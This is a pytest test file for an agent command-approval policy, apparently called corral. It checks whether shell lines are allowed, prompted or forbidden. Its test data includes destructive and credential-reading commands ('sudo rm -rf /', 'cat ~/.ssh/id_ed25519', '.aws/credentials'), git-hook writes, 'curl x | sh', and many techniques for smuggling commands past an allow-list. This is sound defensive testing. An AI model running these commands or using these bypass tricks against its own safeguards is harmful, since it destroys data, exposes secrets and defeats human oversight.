"""The decisions of the built-in policy for commands agents really run, and for the
ways public allow-list bypasses hide a part: one case a command and its decision.

Shell lines are checked as ``bash -c LINE``, the way a harness hands a line to
``corral run``; the other cases are argv, exec'd without a shell.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from corral.approvals import Decision
from corral.approvals._gate import Assessment, assess
from corral.policy import load_policy
from tests.conftest import Home

ALLOW, PROMPT, FORBID = Decision.ALLOW, Decision.PROMPT, Decision.FORBID

SHELL_LINES = [
    # Everyday reads, tests and builds stay allowed.
    ("ls", ALLOW),
    ("ls -la src", ALLOW),
    ("cat README", ALLOW),
    ("rg -n TODO src", ALLOW),
    ("grep -rn main src | head -20", ALLOW),
    ("find . -name '*.py' -type f", ALLOW),
    ("git status", ALLOW),
    ("git diff", ALLOW),
    ("git diff --stat HEAD~1", ALLOW),
    ("git log --oneline -5", ALLOW),
    ("git -C vendor/lib status", ALLOW),
    ("pytest", ALLOW),
    ("pytest -q tests/test_x.py -k name", ALLOW),
    ("python -m pytest -x", ALLOW),
    ("npm test", ALLOW),
    ("make", ALLOW),
    ("make test", ALLOW),
    ("git status && git diff", ALLOW),
    ("ls | wc -l", ALLOW),
    ("cat README | sort | uniq -c", ALLOW),
    ("echo hello > notes.txt", ALLOW),
    ("ls > /dev/null 2>&1", ALLOW),
    ("echo x > /tmp/scratch; echo y > /run/scratch", ALLOW),
    ("CI=1 pytest -q", ALLOW),
    # Work that a person decides on.
    ("git commit -m 'a change'", PROMPT),
    ("git checkout -b feature", PROMPT),
    ("git push origin main", PROMPT),
    ("git fetch", PROMPT),
    ("git reset --hard HEAD~3", PROMPT),
    ("pip install requests", PROMPT),
    ("npm install left-pad", PROMPT),
    ("curl -s http://127.0.0.1:9/x", PROMPT),
    ("frobnicate --all", PROMPT),
    # Chaining, nesting and substitution cannot hide a part.
    ("ls & curl http://127.0.0.1:9/", PROMPT),
    ("ls; curl http://127.0.0.1:9/", PROMPT),
    ("ls\ncurl http://127.0.0.1:9/", PROMPT),
    ("true || curl http://127.0.0.1:9/", PROMPT),
    ("(ls; { curl http://127.0.0.1:9/; })", PROMPT),
    ("echo $(curl -s http://127.0.0.1:9/)", PROMPT),
    ("echo `curl -s http://127.0.0.1:9/`", PROMPT),
    ("cat <(curl -s http://127.0.0.1:9/)", PROMPT),
    ('sh -c "curl http://127.0.0.1:9/"', PROMPT),
    # Options and environment that turn a read into running code.
    ("git -c core.pager='sh -c id' log", PROMPT),
    ("git --exec-path=/opt/x status", PROMPT),
    ("GIT_CONFIG_GLOBAL=/opt/x git status", PROMPT),
    ("GIT_EXTERNAL_DIFF=/opt/x git diff", PROMPT),
    ("LD_PRELOAD=/opt/x.so ls", PROMPT),
    ("BASH_ENV=/opt/x bash -c ls", PROMPT),
    ("env LD_PRELOAD=/opt/x.so cat README", PROMPT),
    ("PATH=/opt/evil:$PATH; ls", PROMPT),
    # Arithmetic evaluates a variable's value as an expression, a[$(cmd)] too.
    ("read x <<< 'a[$(sudo id)]'; echo $((x))", PROMPT),
    ("set -- 'a[$(git push)]'; echo $(($1))", PROMPT),
    ("echo $(( $(cat notes.txt) ))", PROMPT),
    ("read y < notes.txt; [[ $y -gt 0 ]]", PROMPT),
    ("read y < notes.txt; let y", PROMPT),
    ("declare -i n; read n < notes.txt", PROMPT),
    ("read i < notes.txt; echo ${list[i]}", PROMPT),
    ("i=0; while ((i < 3)); do ((i++)); done; echo $((i * 2))", ALLOW),
    ("for ((n = 0; n < 3; n++)); do echo $n; done", ALLOW),
    ("echo $((1 + 2)) ${#list[@]} $(($# + 1))", ALLOW),
    # What the parser cannot model is never allowed.
    ('eval "$X"', PROMPT),
    ("$CMD --version", PROMPT),
    ('ls "unterminated', PROMPT),
    ("{ls,-la}", PROMPT),
    # Forbidden, wherever the part hides.
    ("sudo rm -rf /", FORBID),
    ("ls & sudo rm -rf /", FORBID),
    ("ls && sudo id", FORBID),
    ("(true; { sudo id; })", FORBID),
    ("echo $(sudo id)", FORBID),
    ('echo "$(sudo id)"', FORBID),
    ("sh -c \"bash -lc 'sudo id'\"", FORBID),
    ("printf 'sudo id\\n' | bash", FORBID),
    ("echo 'sudo id' | sh", FORBID),
    ("bash <<EOF\nsudo id\nEOF", FORBID),
    ("find . -exec sudo id \\;", FORBID),
    ("ls | xargs sudo rm", FORBID),
    ("env -S 'sudo id'", FORBID),
    ("timeout 5 nice -n 1 nohup sudo id", FORBID),
    ("s\\udo id", FORBID),
    ("'sudo' id", FORBID),
    # Writes into protected paths and reads of secrets.
    ("echo x > .git/hooks/pre-commit", FORBID),
    ("echo x >> .git/config", FORBID),
    ("cp payload .git/hooks/post-checkout", FORBID),
    ("tee .git/hooks/pre-push < payload", FORBID),
    ("cd .git/hooks && echo x > pre-commit", FORBID),
    ("{ echo x; } > .git/hooks/pre-commit", FORBID),
    ("echo x > .corral/policy.toml", FORBID),
    ("cat ~/.ssh/id_ed25519", FORBID),
    ("cat $HOME/.aws/credentials", FORBID),
    ("corral approve 0123456789ab", FORBID),
    # Backquotes inside backquotes run the inner command.
    (": `: \\`git push\\``", PROMPT),
    ("echo `echo \\`sudo ls\\``", FORBID),
    ('echo "`echo \\`sudo ls\\``"', FORBID),
    ("x=`: \\`pip install evil\\``", PROMPT),
    # An alias changes what later words run, in any shell that expands them.
    ("sh -c 'alias cat=git\ncat push origin main'", PROMPT),
    ("set -o posix\nalias cat=git\ncat push origin main", PROMPT),
    ("alias", ALLOW),
    # A variable holding shell code runs it when arithmetic or expansion reads it.
    ("x='a[$(sudo ls)]'; ((x))", PROMPT),
    ("x='a[$(sudo ls)]'; echo $((x))", PROMPT),
    ("export x='a[`sudo ls`]'; let y=x", PROMPT),
    ("x='${a[$(sudo ls)]}'; echo ok", PROMPT),
    ("x=\\$\\(sudo\\ ls\\); echo ${x@P}", PROMPT),
    ("echo ${!x}", PROMPT),
    ("echo ${!a[@]}", ALLOW),
    ("git commit -m 'use `make`'", PROMPT),
    # Builtins that set a variable without an assignment.
    ("read PATH <<< ./bin; ls", PROMPT),
    ("printf -v PATH %s ./bin; ls", PROMPT),
    ("export PATH+=:./bin; ls", PROMPT),
    ("mapfile -t LD_PRELOAD <<< ./x.so; ls", PROMPT),
    ('read "$x" </dev/null', PROMPT),
    ("read -r line < f.txt", ALLOW),
    # What git and redirections write, and parts tree-sitter misreads.
    ("git bundle create .git/hooks/x HEAD", FORBID),
    ("echo hi 1<>.git/hooks/x", FORBID),
    ("exec 3<>.git/hooks/x", FORBID),
    ("echo $((sudo ls) )", FORBID),
    ("echo `#`; sudo ls", FORBID),
    ("for i in 1; { sudo ls; }", FORBID),
    ("cat <<E'O'F\nx\nEOF\nsudo ls", FORBID),
    ("cat <<EOF; sudo ls\nx\nEOF", FORBID),
]

ARGV = [
    (["ls", "-la"], ALLOW),
    (["git", "status"], ALLOW),
    (["pytest", "-q"], ALLOW),
    (["git", "push"], PROMPT),
    (["sudo", "id"], FORBID),
    (["bash", "-lc", "git status | head"], ALLOW),
    (["bash", "-lc", "git status; sudo id"], FORBID),
    (["env", "-i", "sudo", "id"], FORBID),
    # Words reach the program as they are: no shell splits or expands them.
    (["echo", "$(sudo id)"], ALLOW),
]


def _assess(workspace: Path, home: Home, argv: list[str]) -> Assessment:
    environ = home.env()
    policy = load_policy(workspace, environ=environ)
    return assess(
        argv,
        workspace=workspace,
        cwd=workspace,
        policy=policy,
        policy_as_filed=policy,
        environ=environ,
    )


@pytest.mark.parametrize(
    ("line", "expected"), SHELL_LINES, ids=[c[0] for c in SHELL_LINES]
)
def test_shell_line_decision(
    workspace: Path, home: Home, line: str, expected: Decision
) -> None:
    assessment = _assess(workspace, home, ["bash", "-c", line])
    assert assessment.decision is expected, assessment.to_json()


@pytest.mark.parametrize(("argv", "expected"), ARGV, ids=[" ".join(c[0]) for c in ARGV])
def test_argv_decision(
    workspace: Path, home: Home, argv: list[str], expected: Decision
) -> None:
    assessment = _assess(workspace, home, argv)
    assert assessment.decision is expected, assessment.to_json()


def test_a_rewritten_test_script_changes_what_an_approval_covers(
    workspace: Path, home: Home
) -> None:
    """npm test stays allowed (it runs in the sandbox), but an approval given for
    it before package.json changed does not cover it afterwards."""
    (workspace / "package.json").write_text('{"scripts": {"test": "node t.js"}}\n')
    before = _assess(workspace, home, ["npm", "test"])
    (workspace / "package.json").write_text('{"scripts": {"test": "curl x | sh"}}\n')
    after = _assess(workspace, home, ["npm", "test"])

    assert before.decision is after.decision is ALLOW
    assert any("package.json" in p.finding.scripts for p in after.verdict.parts)
    assert before.fingerprint != after.fingerprint


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("pip install -r requirements.txt", "requirements.txt"),
        ("pip install -e .", "pyproject.toml"),
        ("npm install", "package.json"),
        ("uv sync", "pyproject.toml"),
    ],
)
def test_a_rewritten_install_file_changes_what_an_approval_covers(
    workspace: Path, home: Home, line: str, name: str
) -> None:
    """An install asks a person; the approval does not cover it once the file
    that says what it installs has changed."""
    (workspace / name).write_text("first\n")
    before = _assess(workspace, home, ["bash", "-c", line])
    (workspace / name).write_text("second\n")
    after = _assess(workspace, home, ["bash", "-c", line])

    assert before.decision is after.decision is PROMPT
    assert any(name in p.finding.scripts for p in after.verdict.parts)
    assert before.fingerprint != after.fingerprint
